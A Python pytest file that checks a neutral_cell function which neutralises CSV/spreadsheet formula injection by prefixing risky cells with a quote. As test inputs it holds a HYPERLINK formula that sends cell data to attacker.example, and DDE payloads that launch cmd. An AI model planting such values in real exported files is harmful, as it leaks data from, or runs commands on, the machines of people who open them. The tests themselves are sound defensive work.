"""CSV cells a spreadsheet shows as text, never runs as formulas (OWASP CSV Injection)."""

from __future__ import annotations

import pytest

from monitor.csv_cells import neutral_cell


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\uff1dSUM(A1)",
    ],
)
def test_a_text_cell_that_starts_a_formula_is_prefixed_with_a_quote(value: str) -> None:
    assert neutral_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Fujifilm", "2.4.0", "a=b", "", "'=already text"])
def test_other_text_is_unchanged(value: str) -> None:
    assert neutral_cell(value) == value


@pytest.mark.parametrize("value", [-0.05, -3, 0, 1.5, None, True])
def test_numbers_and_empty_cells_are_unchanged(value: object) -> None:
    assert neutral_cell(value) is value
